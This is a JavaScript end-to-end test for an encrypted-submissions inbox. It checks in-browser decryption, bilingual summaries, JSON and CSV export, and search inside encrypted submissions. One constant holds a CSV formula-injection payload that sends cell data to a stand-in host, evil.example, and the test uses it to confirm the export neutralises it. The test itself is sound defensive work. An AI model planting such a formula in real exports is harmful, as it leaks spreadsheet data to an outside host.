// End to end, in Chromium against the real receiver with the inbox on: what a caseworker does
// with encrypted submissions once the office key is in the browser. The decrypted answers show
// as the staff summary (German beside the person's language), download as JSON and CSV made in
// the browser (a hostile formula neutralised in the CSV, no request to the server), and the
// list's search inside encrypted submissions finds, by a typed word, the submission the
// server's search cannot find; it announces its progress and can be cancelled. axe on both pages.
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { test } from 'node:test';
import { axeViolations } from './inbox-support.js';
import {
  decryptSetUp,
  importOfficeKey,
  postEncrypted,
  signInAsAyse,
} from './inbox-decrypt-support.js';

const WORD = 'Quokkaweg';
const TYPED = `Familiennachzug ${WORD} 7`;
const HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Klick")';
/** Encrypted submissions that do not contain the word (the search has something to go through). */
const OTHERS = 12;

const FORM = {
  id: 'e2e-inbox-suche',
  version: '1',
  lang: 'de',
  encryption: { routing: ['/kommune'] },
  translations: {
    tr: {
      '/schema/properties/anliegen/title': 'Talebiniz',
      '/schema/properties/bemerkung/title': 'Not',
    },
  },
  schema: {
    $schema: 'https://json-schema.org/draft/2020-12/schema',
    title: 'Sichere Anfrage',
    type: 'object',
    required: ['kommune', 'anliegen'],
    properties: {
      kommune: { type: 'string', title: 'Kommune', enum: ['Bergkamen', 'Unna'] },
      anliegen: { type: 'string', title: 'Anliegen', maxLength: 200 },
      bemerkung: { type: 'string', title: 'Bemerkung', maxLength: 200 },
    },
  },
};

test('decrypted answers: summary, downloads made in the browser, search inside encrypted submissions', async (t) => {
  const { receiver, browser, keys } = await decryptSetUp(t, FORM);

  const post = (data) => postEncrypted({ receiver, keys }, FORM, data);
  const wanted = await post({ anliegen: TYPED, bemerkung: HOSTILE });
  const others = [];
  for (let i = 0; i < OTHERS; i++) others.push(await post({ anliegen: `Wohnungssuche ${i}` }));

  const page = await browser.newPage({ locale: 'en-US', acceptDownloads: true });
  const problems = [];
  page.on('pageerror', (error) => problems.push(error.message));
  // CSP and Trusted Types violations are console errors; a 401 before signing in is not one.
  page.on('console', (m) => {
    if (m.type() === 'error' && !m.text().startsWith('Failed to load resource')) {
      problems.push(m.text());
    }
  });
  await signInAsAyse(page, receiver);

  // The server's search does not find the word: it cannot read encrypted answers, and says so.
  await page.getByRole('link', { name: wanted }).waitFor();
  const hint = page.getByText('the search covers only the public metadata');
  await hint.waitFor();
  assert.equal(await hint.getAttribute('id'), 'f-q-hint');
  assert.equal(await page.locator('#f-q').getAttribute('aria-describedby'), 'f-q-hint');
  await page.getByLabel('Search the answers').fill(WORD);
  await page.getByRole('button', { name: 'Show', exact: true }).click();
  await page.locator('inbox-list').getByText('No submissions match these filters.').waitFor();
  const serverSearch = await page.evaluate(
    (q) => fetch(`/inbox/api/submissions?q=${q}`).then((r) => r.json()),
    WORD,
  );
  assert.equal(serverSearch.items.length, 0, 'the server finds nothing by the word');
  // Without a key in this browser, the list says where to import it.
  await page.getByText('first import the office’s key file').waitFor();

  // Import the key in the detail, decrypt: the staff summary of the decrypted answers.
  await page.goto(`${receiver.url}/inbox/submissions/${wanted}`);
  const area = page.locator('inbox-decrypt');
  await area.waitFor({ timeout: 10_000 });
  await importOfficeKey(page, keys);
  await page.getByRole('button', { name: 'Decrypt', exact: true }).click();
  await area.getByText('The answers match the form.').waitFor();
  const german = area.locator('section[aria-labelledby="summary-de"] pre');
  await german.waitFor();
  assert.match(await german.innerText(), new RegExp(`^Anliegen: ${TYPED}$`, 'm'));
  assert.match(await german.innerText(), /^Kommune: Bergkamen$/m);
  assert.equal(await german.getAttribute('lang'), 'de');
  // Beside it, the answers under the labels the person saw (Turkish, from the definition).
  await area.getByRole('heading', { name: /answers \(Turkish\)/ }).waitFor();
  const original = area.locator('section[aria-labelledby="summary-original"] pre');
  assert.match(await original.innerText(), new RegExp(`^Talebiniz: ${TYPED}$`, 'm'));
  assert.equal(await original.getAttribute('lang'), 'tr');
  // The hostile answer is shown as text, not run.
  assert.ok((await german.innerText()).includes(`Bemerkung: ${HOSTILE}`));
  assert.deepEqual(await axeViolations(page), [], 'detail with decrypted answers');

  // The downloads are made in the browser: no request reaches the server meanwhile.
  const requests = [];
  page.on('request', (request) => requests.push(request.url()));
  const download = async (name) => {
    const [file] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name }).click(),
    ]);
    assert.equal(
      file.suggestedFilename(),
      `${wanted}-entschluesselt.${name.slice(-4).trim().toLowerCase()}`,
    );
    return readFile(await file.path(), 'utf8');
  };
  const json = JSON.parse(await download('Download as JSON'));
  const csv = await download('Download as CSV');
  assert.deepEqual(
    requests.filter((url) => url.startsWith(receiver.url)),
    [],
    'nothing went to the server for the downloads',
  );
  assert.equal(json.items.length, 1);
  const record = json.items[0];
  assert.equal(record.reference, wanted);
  assert.equal(record.formId, FORM.id);
  assert.equal(record.locale, 'tr');
  const answer = (label) => record.answers.find((a) => a.label === label);
  assert.equal(answer('Anliegen').value, TYPED);
  assert.equal(answer('Anliegen').originalLabel, 'Talebiniz');
  assert.equal(answer('Bemerkung').value, HOSTILE, 'JSON keeps the answer as it was');
  assert.ok(csv.startsWith('\uFEFF"Aktenzeichen";"Formular"'), csv.slice(0, 80));
  const [header, row] = csv.slice(1).trimEnd().split('\r\n');
  assert.ok(header.includes('"Anliegen";"Bemerkung"'), header);
  assert.ok(row.includes(`"${TYPED}"`), row);
  // The formula starts with an apostrophe: a spreadsheet shows it as text.
  assert.ok(row.includes(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Klick"")"`), row);
  assert.ok(!/(^|;)"=/.test(row), 'no cell starts with =');

  // Back to the list: the search inside encrypted submissions, with the keyboard.
  await page.getByRole('link', { name: 'Back to the list' }).click();
  const search = page.locator('inbox-encrypted-search');
  await search.getByRole('heading', { name: 'Search inside encrypted submissions' }).waitFor();
  const field = page.getByLabel('Text to find in the decrypted answers');
  await field.fill('');
  await field.focus();
  await page.keyboard.press('Enter');
  await search.getByText('Enter the text to find.').waitFor();
  await field.fill(WORD.toLowerCase());
  await page.keyboard.press('Enter');
  await search.getByText(`1 of ${OTHERS + 1} encrypted submissions contain the text.`).waitFor();
  const results = search.getByRole('list', { name: 'Encrypted submissions that contain the text' });
  assert.deepEqual(await results.getByRole('link').allInnerTexts(), [wanted]);
  const live = page.locator('intake-inbox div.visually-hidden[role="status"]');
  await assert.doesNotReject(
    live.getByText(`1 of ${OTHERS + 1} encrypted submissions contain the text.`).waitFor(),
  );
  // The found row is marked in the table, the others not; the search left them unread.
  const foundRow = page.getByRole('row', { name: new RegExp(wanted) });
  await foundRow.getByText('text found in the decrypted answers').waitFor();
  const otherRow = page.getByRole('row', { name: new RegExp(others[0]) });
  assert.equal(await otherRow.getByText('text found in the decrypted answers').count(), 0);
  assert.equal(await otherRow.getByText('Unread').count(), 1, 'the search marks nothing read');
  assert.deepEqual(await axeViolations(page), [], 'list with the search inside encrypted ones');

  // Decrypt and export the encrypted ones under the filters, in the browser, as one CSV.
  requests.length = 0;
  const [bulk] = await Promise.all([
    page.waitForEvent('download'),
    search.getByRole('button', { name: 'Decrypt and download as CSV' }).click(),
  ]);
  assert.match(bulk.suggestedFilename(), /^eingang-entschluesselt-\d{4}-\d{2}-\d{2}\.csv$/);
  const bulkCsv = await readFile(await bulk.path(), 'utf8');
  const lines = bulkCsv.slice(1).trimEnd().split('\r\n');
  assert.equal(lines.length, 1 + OTHERS + 1, 'a header and one line per encrypted submission');
  assert.ok(
    lines.some((line) => line.includes(`"'=HYPERLINK(`)),
    'the formula neutralised',
  );
  assert.ok(!lines.some((line) => /(^|;)"=/.test(line)), 'no cell starts with =');
  await search.getByText(`${OTHERS + 1} encrypted submissions decrypted into a CSV file`).waitFor();
  // What reached the server: the list and the details (ciphertext) and forms, no answers.
  assert.ok(
    requests.every((url) => new URL(url).pathname.startsWith('/inbox/api/')),
    requests.join('\n'),
  );
  assert.ok(requests.every((url) => !url.includes('Wohnungssuche')));

  // Cancelling: each detail answers slowly (a delay this test puts in); cancel after two.
  let delayed = 0;
  await page.route(/\/inbox\/api\/submissions\/[^/?]+\?search=1$/, async (route) => {
    delayed++;
    await new Promise((resolve) => setTimeout(resolve, 250));
    await route.continue();
  });
  await field.fill('Wohnungssuche');
  await page.keyboard.press('Enter');
  await search.getByText(`Decrypted 2 of ${OTHERS + 1}…`).waitFor();
  await search.getByRole('button', { name: 'Cancel the search' }).press('Enter');
  await search.getByText(/Search cancelled after \d+ of 13\./).waitFor();
  assert.ok(delayed >= 2, 'the delay fired');
  assert.ok(delayed < OTHERS + 1, `stopped early (${delayed} fetched)`);
  await page.unroute(/\/inbox\/api\/submissions\/[^/?]+\?search=1$/);

  assert.deepEqual(problems, []);
});
